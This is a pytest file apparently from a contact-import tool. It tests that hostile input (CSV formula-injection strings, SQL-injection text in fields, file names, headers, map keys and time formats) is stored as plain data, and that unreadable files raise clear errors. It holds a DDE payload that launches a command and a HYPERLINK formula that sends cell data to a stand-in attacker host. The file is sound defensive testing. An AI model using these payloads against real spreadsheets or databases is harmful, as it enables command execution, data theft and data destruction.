"""Hostile and unreadable input: formula-looking and SQL-looking text is data, huge fields fit, and
files that cannot be read at all give an InputFileError naming the file (and leave the store
alone)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from recontact.errors import InputFileError
from recontact.schema import CONTACT_FIELDS


def test_formula_and_sql_text_are_stored_verbatim(samples, run_import, query, contact_rows):
    s = run_import(samples / "csv" / "hostile.csv")
    assert (s.imported, s.rejected) == (2, 0)
    h1, h2 = contact_rows()
    assert h1["customer_name"] == "=cmd|' /C calc'!A0"
    assert h1["category"] == "'); DROP TABLE contacts;--"
    assert json.loads(h1["extra"]) == {"Comment": '=HYPERLINK("http://evil.example/?" & A1, "click")'}
    assert h2["customer_name"] == "Robert'); DROP TABLE identifiers;--"
    assert h2["category"] == 'a "quoted", comma, and; semicolon'
    assert json.loads(h2["extra"]) == {"Comment": "@SUM(1+1)"}
    # Nothing was executed: both tables are still there and hold what they should.
    assert query("SELECT count(*) FROM contacts") == [(2,)]
    assert query("SELECT ident FROM identifiers") == [("phone:+14155550134",)]


def test_sql_text_in_the_file_name_and_headers(tmp_path, run_import, contact_rows):
    folder = tmp_path / "it's; DROP TABLE contacts;--"
    folder.mkdir()
    path = folder / "o'brien.csv"
    path.write_text('started_at,"we""ird\', col",x\n2026-01-05T09:00:00Z,ok,1\n')
    s = run_import(path)
    assert s.imported == 1
    (row,) = contact_rows()
    assert json.loads(row["extra"]) == {"we\"ird', col": "ok", "x": "1"}


def test_a_one_megabyte_field(tmp_path, run_import, query):
    big = "x" * (1 << 20)
    path = tmp_path / "big.csv"
    path.write_text(f"started_at,phone,notes\n2026-01-05T09:00:00Z,4155550134,{big}\n"
                    f"2026-01-05T10:00:00Z,4155550134,small\n")
    s = run_import(path)
    assert (s.imported, s.rejected) == (2, 0)
    (extra,) = query("SELECT extra FROM contacts WHERE line = 2")[0]
    assert json.loads(extra)["notes"] == big


@pytest.mark.parametrize(("make", "message"), [
    (lambda p: p.write_bytes(b""), "the file is empty"),
    (lambda p: p.write_bytes(b"\n \r\n\t\n"), "the file is empty"),
    (lambda p: p.write_bytes(bytes(range(256)) * 8), "looks binary (NUL bytes), not a text export"),
    (lambda p: p.write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"), "looks binary (NUL bytes), not a text export"),
    (lambda p: None, "no such file"),
    (lambda p: p.mkdir(), "is a directory, not a file"),
], ids=["empty", "whitespace", "binary", "png", "missing", "directory"])
@pytest.mark.parametrize("source", [None, "csv", "jsonl", "asterisk"])
def test_unreadable_files_name_the_file(tmp_path, run_import, query, store_path, make, message, source):
    path = tmp_path / "export.csv"
    make(path)
    with pytest.raises(InputFileError) as e:
        run_import(path, source=source)
    assert str(e.value) == f"{path}: {message}"
    assert not store_path.exists()  # a failed first import leaves no store behind


def test_header_only_file(samples, run_import, store_path):
    path = samples / "csv" / "header_only.csv"
    with pytest.raises(InputFileError) as e:
        run_import(path)
    assert str(e.value) == f"{path}: no valid contact in 0 rows (the file has no rows after its header)"


def test_file_with_only_bad_rows_reports_the_first(samples, run_import):
    path = samples / "csv" / "bad_rows_only.csv"
    with pytest.raises(InputFileError) as e:
        run_import(path)
    assert str(e.value) == (f"{path}: no valid contact in 2 rows; first: line 2: started_at \"yesterday\" "
                            "is not an ISO 8601 time (give --time-format for other layouts)")


def test_unknown_source_lists_the_known_ones(samples, run_import):
    from recontact.importers import FORMATS

    with pytest.raises(InputFileError, match=rf"unknown --source 'nosuch'; known: {', '.join(FORMATS)}$"):
        run_import(samples / "csv" / "crlf.csv", source="nosuch")


def test_unreadable_file_permission(tmp_path, run_import, monkeypatch):
    """Simulated (tests may run as root, who can read anything)."""
    path = tmp_path / "secret.csv"
    path.write_text("started_at\n2026-01-01T00:00:00Z\n")
    real_open = Path.open

    def deny(self: Path, *args: object, **kwargs: object) -> object:
        if self == path:
            raise PermissionError(13, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(Path, "open", deny)
    with pytest.raises(InputFileError) as e:
        run_import(path)
    assert str(e.value) == f"{path}: permission denied"


def test_one_invalid_utf8_row_among_utf8_rows_is_rejected_alone(tmp_path: Path, run_import, contact_rows):
    """A UTF-8 file with one Latin-1 byte in one row: that row is rejected with its line and a
    hint, the UTF-8 rows around it keep their text exactly."""
    path = tmp_path / "mixed.csv"
    path.write_bytes(b"started_at,customer_name\n2026-01-05T09:00:00Z,Ren\xc3\xa9e\n"
                     b"2026-01-05T10:00:00Z,M\xfcller\n2026-01-05T11:00:00Z,Zo\xc3\xab\n")
    s = run_import(path)
    assert (s.read, s.imported, s.rejected) == (3, 2, 1)
    assert [(r.line, r.reason) for r in s.rejects] == [
        (3, "not valid UTF-8 text (a byte sequence no UTF-8 text has); fix the row, or give --encoding "
            "latin-1 if the whole file is Latin-1")]
    assert [(r["line"], r["customer_name"]) for r in contact_rows()] == [(2, "Renée"), (4, "Zoë")]


def test_a_file_with_no_utf8_text_is_read_as_latin1(tmp_path: Path, run_import, contact_rows):
    path = tmp_path / "latin1.csv"
    path.write_bytes(b"started_at,customer_name\n2026-01-05T09:00:00Z,M\xfcller\n2026-01-05T10:00:00Z,Ren\xe9e\n")
    s = run_import(path)
    assert (s.imported, s.rejected) == (2, 0)
    assert "read as latin-1" in s.notes
    assert [r["customer_name"] for r in contact_rows()] == ["Müller", "Renée"]


def test_latin1_given_reads_every_row(tmp_path: Path, run_import, contact_rows):
    """The hint of the reject works: --encoding latin-1 imports the row (the UTF-8 text then reads
    as Latin-1, visibly, not dropped)."""
    path = tmp_path / "mixed.csv"
    path.write_bytes(b"started_at,customer_name\n2026-01-05T09:00:00Z,Ren\xc3\xa9e\n"
                     b"2026-01-05T10:00:00Z,M\xfcller\n")
    s = run_import(path, encoding="latin-1")
    assert (s.imported, s.rejected) == (2, 0)
    assert [r["customer_name"] for r in contact_rows()] == ["RenÃ©e", "Müller"]


# --- user strings never reach SQL unquoted --------------------------------------------------------

HOSTILE_NAMES = ["it's", 'say "hi"', "a;b", "back\\slash", "x'); DROP TABLE contacts;--", 'tab\tand "\\\'',
                 "dot.ted/slash~"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_csv_headers_and_map_keys(tmp_path, run_import, contact_rows, name):
    path = tmp_path / "h.csv"
    quoted = '"' + name.replace('"', '""') + '"'
    path.write_text(f'When,{quoted},other\n2026-01-05T09:00:00Z,4155550134,{quoted}\n')
    s = run_import(path, column_map={"When": "started_at", name: "phone"})
    assert (s.imported, s.rejected) == (1, 0)
    (row,) = contact_rows()
    assert row["phone"] == "+14155550134"
    assert json.loads(row["extra"]) == {"other": name}


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_json_keys_and_map_keys(tmp_path, run_import, contact_rows, name):
    path = tmp_path / "h.jsonl"
    path.write_text(json.dumps({"When": "2026-01-05T09:00:00Z", name: "4155550134", "other": name}) + "\n")
    s = run_import(path, column_map={"When": "started_at", name: "phone"})
    assert (s.imported, s.rejected) == (1, 0)
    (row,) = contact_rows()
    assert row["phone"] == "+14155550134"
    assert json.loads(row["extra"])["other"] == name


@pytest.mark.parametrize("target", ["phone; DROP TABLE contacts", "phone AS x, 1", 'ph"one', "it's", "Phone", ""])
@pytest.mark.parametrize("source", ["csv", "jsonl", "asterisk"])
def test_map_targets_are_checked_for_every_format(samples, run_import, store_path, source, target):
    path = {"csv": samples / "csv" / "mapped.csv", "jsonl": samples / "jsonl" / "mapped.jsonl",
            "asterisk": samples / "asterisk" / "cdr_csv.csv"}[source]
    with pytest.raises(InputFileError) as e:
        run_import(path, source=source, column_map={"When": "started_at", "Caller ID": target})
    assert str(e.value) == f"--map names unknown field(s) {target!r}; fields are: {', '.join(CONTACT_FIELDS)}"
    assert not store_path.exists()


def test_asterisk_map_takes_cdr_columns(samples, run_import, contact_rows):
    s = run_import(samples / "asterisk" / "cdr_csv.csv", column_map={"userfield": "category", "dst": "queue"})
    assert s.imported == 4
    assert {r["queue"] for r in contact_rows()} == {"100"}
    with pytest.raises(InputFileError, match=r"--map names CDR column 'Caller ID', not in this layout; columns are: "
                                             r"accountcode, src, dst"):
        run_import(samples / "asterisk" / "cdr_csv.csv", column_map={"Caller ID": "phone"})


@pytest.mark.parametrize("time_format", ["%d/%m/%Y %H:%M'", "%d/%m/%Y %H:%M'); DROP TABLE contacts;--", "%d\\%m"])
def test_hostile_time_format_is_a_string(tmp_path, run_import, query, time_format):
    path = tmp_path / "t.csv"
    path.write_text("started_at,phone\n05/01/2026 09:00,4155550134\n")
    with pytest.raises(InputFileError) as e:
        run_import(path, time_format=time_format)
    assert f"does not match --time-format {time_format}" in str(e.value)


@pytest.mark.parametrize("delimiter", ["'", "\\", ";"])
def test_hostile_delimiter_is_a_string(tmp_path, run_import, contact_rows, delimiter):
    path = tmp_path / "d.csv"
    path.write_text(f"started_at{delimiter}phone\n2026-01-05T09:00:00Z{delimiter}4155550134\n")
    s = run_import(path, delimiter=delimiter)
    assert s.imported == 1
    assert contact_rows()[0]["phone"] == "+14155550134"


# --- a failed first import leaves no store --------------------------------------------------------


@pytest.mark.parametrize("source", [None, "csv", "jsonl", "asterisk"])
def test_a_failed_first_import_leaves_no_store(samples, tmp_path, run_import, store_path, source):
    for path in (samples / "csv" / "bad_rows_only.csv", tmp_path / "missing.csv", samples / "csv" / "header_only.csv"):
        with pytest.raises(InputFileError):
            run_import(path, source=source)
        # no store file, no .wal, no .tmp spill folder, no temporary copy
        assert not store_path.parent.exists() or list(store_path.parent.iterdir()) == []


def test_a_failed_later_import_keeps_the_store(samples, run_import, store_path, query):
    run_import(samples / "csv" / "phones.csv")
    with pytest.raises(InputFileError):
        run_import(samples / "csv" / "bad_rows_only.csv")
    assert store_path.exists()
    assert query("SELECT count(*) FROM contacts") == [(5,)]
